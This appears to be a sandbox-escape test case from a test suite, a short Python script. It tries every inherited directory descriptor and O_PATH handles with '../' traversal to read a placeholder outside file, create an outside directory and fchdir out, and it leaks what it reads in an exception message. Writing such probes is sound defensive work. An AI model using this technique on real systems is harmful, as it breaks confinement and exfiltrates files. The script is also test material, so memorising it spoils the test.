"""Uses each inherited directory descriptor, and O_PATH ones, as a start for openat towards the outside.

base: unsolved
max-score: 0
canary: outside-file, leak
"""
# %% q1
import os

loot = []
for fd in list(range(0, 256)) + [os.open("/", os.O_PATH | os.O_DIRECTORY), os.open(".", os.O_PATH)]:
    for prefix in ("", "../" * 20):
        path = prefix + "@OUTSIDE_FILE@".lstrip("/")
        try:
            loot.append(os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 4096).decode())
        except OSError:
            pass
        try:
            os.mkdir(prefix + "@OUTSIDE_DIR@".lstrip("/") + "/openat", dir_fd=fd)
        except OSError:
            pass
        try:
            os.fchdir(fd)
        except OSError:
            pass
raise RuntimeError(str(loot))
